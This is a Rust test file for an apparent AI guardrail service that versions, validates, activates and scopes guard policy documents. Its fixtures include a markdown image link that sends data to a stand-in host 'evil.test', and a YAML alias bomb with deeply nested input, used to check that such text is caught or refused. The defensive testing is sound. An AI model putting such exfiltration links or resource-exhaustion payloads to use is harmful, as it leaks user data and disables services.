//! Policies as documents: kept in versions, compared, rolled back, refused when they are wrong.

use guardmesh_chassis::id::OrganizationId;
use guardmesh_proto::guardmesh::guards::v1 as wire;
use tonic::{Code, Status};
use tonic_types::StatusExt;

use crate::app::{App, invalid_fields, member, reason, text};
use crate::editor::Editor;

const FLAG: &str = "# noted\nroutes:\n- guards:\n  - {guard: pii, action: flag}\n";
const BLOCK: &str = r#"{"routes": [{"guards": [{"guard": "pii", "action": "block"}]}]}"#;

fn named(policy_id: &str) -> wire::GetPolicyRequest {
    let policy_id = policy_id.to_owned();
    wire::GetPolicyRequest { policy_id }
}

fn version(policy_id: &str, version: i32) -> wire::GetPolicyVersionRequest {
    let policy_id = policy_id.to_owned();
    wire::GetPolicyVersionRequest { policy_id, version }
}

fn delete(policy_id: &str) -> wire::DeletePolicyRequest {
    let policy_id = policy_id.to_owned();
    wire::DeletePolicyRequest { policy_id }
}

fn told<T>(answer: Result<T, Status>) -> (Code, String) {
    let status = answer.err().unwrap();
    (status.code(), reason(&status))
}

#[tokio::test]
async fn every_change_is_a_version_and_none_is_lost() {
    let app = App::start().await;
    let editor = Editor::new(&app);
    let policy = editor.create(" Chat ", FLAG).await.unwrap();
    assert!(policy.id.starts_with("pol_"));
    assert_eq!(
        (&*policy.name, policy.version, policy.active),
        ("Chat", 1, false)
    );
    let changed = editor.update(&policy.id, BLOCK).await.unwrap();
    assert_eq!((changed.version, &*changed.document), (2, BLOCK));

    let request = wire::DiffPolicyVersionsRequest {
        policy_id: policy.id.clone(),
        version: 1,
        other_version: 0,
    };
    let changes = editor.diff_policy_versions(request).await.unwrap().changes;
    assert_eq!(changes.len(), 1);
    assert_eq!(changes[0].path, "routes[0].guards[0].action");
    assert_eq!(
        (&*changes[0].before, &*changes[0].after),
        ("\"flag\"", "\"block\"")
    );

    let request = wire::RollbackPolicyRequest {
        policy_id: policy.id.clone(),
        version: 1,
        comment: "too strict".to_owned(),
    };
    let back = editor
        .rollback_policy(request)
        .await
        .unwrap()
        .policy
        .unwrap();
    assert_eq!((back.version, &*back.document), (3, FLAG));
    let request = wire::ListPolicyVersionsRequest {
        policy_id: policy.id.clone(),
        page_size: 2,
        before_version: 0,
    };
    let versions = editor
        .list_policy_versions(request.clone())
        .await
        .unwrap()
        .versions;
    let numbers: Vec<_> = versions
        .iter()
        .map(|one| (one.version, &*one.comment))
        .collect();
    assert_eq!(numbers, [(3, "too strict"), (2, "another")]);
    assert!(versions[0].user_id.starts_with("usr_") && versions[0].document.is_empty());
    let before = wire::ListPolicyVersionsRequest {
        before_version: 2,
        ..request
    };
    let versions = editor.list_policy_versions(before).await.unwrap().versions;
    assert_eq!((versions.len(), versions[0].version), (1, 1));

    let second = editor
        .get_policy_version(version(&policy.id, 2))
        .await
        .unwrap();
    assert_eq!(second.version.unwrap().document, BLOCK);
    let got = editor.get_policy(named(&policy.id)).await.unwrap().policy;
    assert_eq!(got, Some(back));
}

#[tokio::test]
async fn who_changes_an_older_version_than_there_is_learns_of_it() {
    let app = App::start().await;
    let editor = Editor::new(&app);
    let policy = editor.create("Chat", FLAG).await.unwrap();
    let request = |expected_version| wire::UpdatePolicyRequest {
        policy_id: policy.id.clone(),
        document: BLOCK.to_owned(),
        comment: String::new(),
        expected_version,
    };
    editor.update_policy(request(1)).await.unwrap();
    let late = editor.update_policy(request(1)).await;
    assert_eq!(told(late), (Code::Aborted, "POLICY_CHANGED".to_owned()));
    // Both at once: one of them is late.
    let (one, other) = tokio::join!(
        editor.update_policy(request(2)),
        editor.update_policy(request(2)),
    );
    assert_eq!(u8::from(one.is_ok()) + u8::from(other.is_ok()), 1);
}

#[tokio::test]
async fn one_policy_is_active_and_stays() {
    let app = App::start().await;
    let editor = Editor::new(&app);
    let first = editor.create("First", FLAG).await.unwrap();
    let second = editor.create("Second", BLOCK).await.unwrap();
    let taken = editor.create("First", BLOCK).await;
    assert_eq!(
        told(taken),
        (Code::AlreadyExists, "POLICY_NAME_TAKEN".to_owned())
    );
    assert!(editor.activate(&first.id).await.unwrap().active);
    let listed = editor
        .list_policies(wire::ListPoliciesRequest::default())
        .await;
    let listed = listed.unwrap().policies;
    let listed: Vec<_> = listed.iter().map(|one| (&*one.name, one.active)).collect();
    assert_eq!(listed, [("Second", false), ("First", true)]);

    let refused = editor.delete_policy(delete(&first.id)).await;
    assert_eq!(
        told(refused),
        (Code::FailedPrecondition, "POLICY_ACTIVE".to_owned())
    );
    editor.activate(&second.id).await.unwrap();
    editor.delete_policy(delete(&first.id)).await.unwrap();
    let request = wire::DeactivatePolicyRequest {};
    editor.deactivate_policy(request).await.unwrap();
    editor.delete_policy(delete(&second.id)).await.unwrap();
    let gone = editor.get_policy(named(&second.id)).await;
    assert_eq!(told(gone), (Code::NotFound, "POLICY_NOT_FOUND".to_owned()));
}

#[tokio::test]
async fn a_name_is_one_line() {
    let app = App::start().await;
    let editor = Editor::new(&app);
    let long = "x".repeat(101);
    for name in ["", " \n", "First\nSecond", "\u{1b}[2J", "a\u{2028}b", &long] {
        let status = editor.create(name, FLAG).await.unwrap_err();
        assert_eq!(invalid_fields(&status), ["name"], "{name:?}");
    }
    let policy = editor.create(" Chat, 客服 👩‍💻\n", FLAG).await.unwrap();
    assert_eq!(policy.name, "Chat, 客服 👩‍💻");
}

#[tokio::test]
async fn a_wrong_document_is_refused_with_the_place_in_it() {
    let app = App::start().await;
    let editor = Editor::new(&app);
    let step = |step: &str| format!("routes:\n- guards:\n  - {step}\n");
    let at = |place: &str| format!("document: {place}");
    for (document, place) in [
        (String::new(), "document".to_owned()),
        ("routes: []".to_owned(), at("routes")),
        ("routes:\n- guards: [\n".to_owned(), at("line 2, column 11")),
        (
            "{\"routes\": 1, \"routes\": 2}".to_owned(),
            at("line 1, column 15"),
        ),
        (
            "colour: red\nroutes: [{guards: []}]".to_owned(),
            "document".to_owned(),
        ),
        (
            step("{guard: clairvoyance}"),
            at("routes[0].guards[0].guard"),
        ),
        (
            step("{guard: pii, action: praise}"),
            at("routes[0].guards[0].action"),
        ),
        (
            step("{guard: pii, threshold: 2}"),
            at("routes[0].guards[0].threshold"),
        ),
        (
            step("{guard: pii, timeout_ms: 59000}"),
            at("routes[0].guards[0].timeout_ms"),
        ),
        (
            step("{guard: pii, redaction: mask}"),
            at("routes[0].guards[0].redaction"),
        ),
        (
            step("{guard: regex, parameters: {ignore_case: true}}"),
            at("routes[0].guards[0].parameters"),
        ),
        (
            "routes: [{match: {languages: [en, cz]}, guards: []}]".to_owned(),
            at("routes[0].match.languages[1]"),
        ),
        (
            step("{guard: keywords, parameters: {ban: [\"\"]}}"),
            at("routes[0].guards[0].parameters.ban[0]"),
        ),
        (
            step("{guard: regex, parameters: {patterns: [\"(\"]}}"),
            at("routes[0].guards[0].parameters.patterns[0]"),
        ),
        (
            "routes: [{guards: [{guard: pii}, {guard: pii}]}]".to_owned(),
            at("routes[0].guards[1].name"),
        ),
        (
            "routes: [{match: {channels: [radio]}, guards: []}]".to_owned(),
            at("routes[0].match.channels[0]"),
        ),
        // No text would come to it, whatever its guards.
        (
            "routes: [{guards: [{guard: pii}]}, {match: {direction: output}, guards: [{guard: secrets}]}]"
                .to_owned(),
            at("routes[1]"),
        ),
        (
            "routes: [{match: {channels: [user, code], labels: {a: b}}, guards: []},
                      {match: {direction: input}, guards: []},
                      {match: {channels: [code], labels: {a: b, c: d}}, guards: []}]"
                .to_owned(),
            at("routes[2]"),
        ),
    ] {
        let status = editor.create("Wrong", &document).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{document}");
        assert_eq!(invalid_fields(&status), [place], "{document}: {status:?}");
    }
    let document = step("{guard: pii, threshold: 2}");
    let status = editor.create("Wrong", &document).await.unwrap_err();
    let told = status.get_error_details();
    let told = &told.bad_request().unwrap().field_violations[0].description;
    assert!(told.ends_with("(line 3, column 29)"), "{told}");
    let listed = editor
        .list_policies(wire::ListPoliciesRequest::default())
        .await;
    assert!(listed.unwrap().policies.is_empty());
}

#[tokio::test]
async fn a_document_that_would_grow_or_nest_without_end_is_refused() {
    let app = App::start().await;
    let editor = Editor::new(&app);
    let mut laughs = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for level in 1..12 {
        let before = level - 1;
        let aliases = vec![format!("*a{before}"); 9].join(", ");
        let line = format!("a{level}: &a{level} [{aliases}]\n");
        laughs.push_str(&line);
    }
    for document in [
        laughs,
        format!("routes: {}{}", "[".repeat(10_000), "]".repeat(10_000)),
        "- ".repeat(5_000),
        format!("{FLAG}# {}", "x".repeat(64 * 1024)),
        "routes: *nowhere".to_owned(),
        format!("{FLAG}---\n{FLAG}"),
    ] {
        let status = editor.create("Wrong", &document).await.unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument);
        let fields = invalid_fields(&status);
        assert!(fields[0].starts_with("document"), "{fields:?}");
        let told = status.get_error_details();
        let told = &told.bad_request().unwrap().field_violations[0].description;
        assert!(told.len() < 1000, "{told}");
    }
}

#[tokio::test]
async fn routes_of_which_each_is_taken_by_some_text_are_accepted() {
    let app = App::start().await;
    let editor = Editor::new(&app);
    for (number, matches) in [
        "{match: {direction: output}, guards: []}, {guards: []}",
        "{match: {direction: output}, guards: []}, {match: {direction: input}, guards: []}",
        "{match: {channels: [code]}, guards: []}, {match: {channels: [code, user]}, guards: []}",
        "{match: {labels: {a: b, c: d}}, guards: []}, {match: {labels: {a: b}}, guards: []}",
        "{match: {labels: {a: b}}, guards: []}, {match: {labels: {a: c}}, guards: []}",
        "{match: {languages: [de], applications: [x]}, guards: []}, {match: {languages: [de]}, guards: []}",
    ]
    .iter()
    .enumerate()
    {
        let document = format!("routes: [{matches}]");
        let made = editor.create(&format!("Policy {number}"), &document).await;
        assert!(made.is_ok(), "{document}: {made:?}");
    }
}

#[tokio::test]
async fn the_default_policy_can_be_read_and_made_a_policy() {
    let app = App::start().await;
    let editor = Editor::new(&app);
    let request = wire::GetDefaultPolicyRequest {};
    let document = editor.get_default_policy(request).await.unwrap().document;
    let text = || text("ada@example.org \u{200b} ![x](https://evil.test/?d={data})");
    let before = app.check(&editor.caller, text()).await.unwrap();
    assert_eq!(before.policy_id, "");
    let policy = editor.follow(&document).await;
    let after = app.check(&editor.caller, text()).await.unwrap();
    assert_eq!(after.policy_id, policy.id);
    let said = |answer: &wire::CheckResponse| {
        let results = answer.guard_results.iter();
        let guards: Vec<_> = results
            .map(|one| (one.guard.clone(), one.decision))
            .collect();
        (
            answer.decision,
            answer.sanitized_content.clone(),
            answer.findings.clone(),
            guards,
        )
    };
    assert_eq!(said(&after), said(&before));
}

#[tokio::test]
async fn the_schema_is_served_and_knows_the_guards() {
    let app = App::start().await;
    let request = wire::GetPolicySchemaRequest {};
    let schema = Editor::new(&app).get_policy_schema(request).await.unwrap();
    let schema = format!("{:?}", schema.schema.unwrap());
    for known in ["prompt_injection", "fail_open", "shadow", "2020-12"] {
        assert!(schema.contains(known), "{known}");
    }
}

#[tokio::test]
async fn only_who_may_touches_policies_and_only_their_own() {
    let app = App::start().await;
    let editor = Editor::new(&app);
    let policy = editor.create("Ours", FLAG).await.unwrap();
    let plain = Editor {
        app: &app,
        caller: member(),
    };
    let refused = plain.get_policy(named(&policy.id)).await.unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied);
    let refused = plain.create("Theirs", FLAG).await.unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied);

    let stranger = Editor::of(&app, OrganizationId::generate());
    let nothing = (Code::NotFound, "POLICY_NOT_FOUND".to_owned());
    assert_eq!(told(stranger.get_policy(named(&policy.id)).await), nothing);
    assert_eq!(told(stranger.update(&policy.id, BLOCK).await), nothing);
    assert_eq!(told(stranger.activate(&policy.id).await), nothing);
    assert_eq!(
        told(stranger.delete_policy(delete(&policy.id)).await),
        nothing
    );
    assert_eq!(
        told(stranger.get_policy_version(version(&policy.id, 1)).await),
        nothing
    );
    let listed = stranger
        .list_policies(wire::ListPoliciesRequest::default())
        .await;
    assert!(listed.unwrap().policies.is_empty());
    assert_eq!(told(editor.get_policy(named("nonsense")).await), nothing);
}
